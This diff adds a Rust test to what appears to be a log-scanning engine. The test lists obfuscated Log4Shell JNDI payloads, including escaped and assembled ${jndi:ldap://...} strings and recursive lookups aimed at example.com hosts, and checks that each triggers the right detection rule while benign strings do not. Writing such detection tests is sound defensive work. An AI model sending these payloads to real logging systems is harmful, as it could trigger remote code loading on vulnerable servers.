@@ -946,3 +946,34 @@ fn one_scanner_finding_per_scanner_and_address_with_span_and_count() {
     // No per-log finding for scanner rules besides these.
     assert!(!findings.iter().any(|f| f["rule"] == "log.web.scanner"));
 }
+
+#[test]
+fn remaining_log4j_classes() {
+    table(
+        "log4j",
+        &[
+            ("GET /?x=${lower:j}${lower:n}${lower:d}${lower:i}:ldap://o8.example/a", "log4j.jndi-assembled"),
+            ("X-Api-Version: j${::-n}di:rmi://o9.example/a", "log4j.jndi-assembled"),
+            ("User-Agent: ${${::-${::-$${::-j}}}}", "log4j.recursive-lookup"),
+            ("ua=${ctx:loginId${ctx:loginId}}", "log4j.recursive-lookup"),
+            (r"a \44{jndi:ldap://o1.example/a}", "log4j.jndi-lookup"),
+            (r"a \44\173jndi:ldap://o2.example/a}", "log4j.jndi-lookup"),
+            (r"a \\44\\173jndi:ldap://o4.example/a}", "log4j.jndi-lookup"),
+            (r"a \044\173jndi:ldap://o11.example/a}", "log4j.jndi-lookup"),
+            (r"a \\x24\\x7bjndi:ldap://o6.example/a}", "log4j.jndi-lookup"),
+            ("a %5C44%5C173jndi:ldap://o10.example/a}", "log4j.jndi-lookup"),
+        ],
+        &[
+            "${user.home}/conf/jndi.properties loaded",
+            "INFO ${lower:Service} started on ${hostName}",
+            "price is $$ {discount}",
+            "cost: $${amount} escaped",
+        ],
+    );
+    // An assembled string next to a real lookup is reported as the lookup only.
+    let e = engine();
+    let ids = rule_ids(&e, "${jndi:ldap://x.example/a} ${lower:j}ndi:ldap://y");
+    assert!(
+        ids.contains(&"log4j.jndi-lookup".to_string()) && !ids.contains(&"log4j.jndi-assembled".to_string())
+    );
+}
